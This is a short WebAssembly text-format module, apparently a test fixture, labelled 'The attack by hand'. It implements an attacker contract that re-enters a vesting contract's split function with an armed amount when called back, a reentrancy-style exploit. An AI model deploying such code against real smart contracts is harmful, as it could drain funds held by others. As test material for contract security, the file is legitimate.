;; The attack by hand.
(module $attacker
  (import "contract:vesting" "split" (func $vesting.split (param i64 i64 i64) (result i64)))
  (import "ethereum" "getCallDataSize" (func $eth_getCallDataSize (result i32)))
  (import "ethereum" "finish" (func $eth_finish (param i32 i32)))
  (import "storage" "memory" (memory $storage 1))
  (memory $memory (export "memory") 3)

  (func $_be_set (param $at i64) (param $n i64) (param $x i64)
    (local $i i64)
    (local.set $i (i64.sub (local.get $n) (i64.const 1)))
    (block $end43
      (loop $again43
        (br_if $end43 (i32.eqz (i64.ge_s (local.get $i) (i64.const 0))))
        (i64.store8 $memory (i32.wrap_i64 (i64.add (local.get $at) (local.get $i))) (i64.and (local.get $x) (i64.const 255)))
        (local.set $x (i64.shr_u (local.get $x) (i64.const 8)))
        (local.set $i (i64.sub (local.get $i) (i64.const 1)))
        (br $again43))))

  (func $main (export "main")
    (local $n i64)
    (if (i64.eq (i64.extend_i32_u (call $eth_getCallDataSize )) (i64.const 20))
      (then
        (if (i64.gt_s (i64.load $storage (i32.const 0)) (i64.const 0))
          (then
            (local.set $n (i64.load $storage (i32.const 0)))
            (i64.store $storage (i32.const 0) (i64.const 0))
            (drop (call $vesting.split (i64.const 1) (local.get $n) (i64.const 9)))))
        (call $_be_set (i64.const 96) (i64.const 4) (i64.const 2292697692))
        (call $eth_finish (i32.const 96) (i32.const 4)))))

  (func $arm (export "arm") (param $x i64)
    (i64.store $storage (i32.const 0) (local.get $x))))
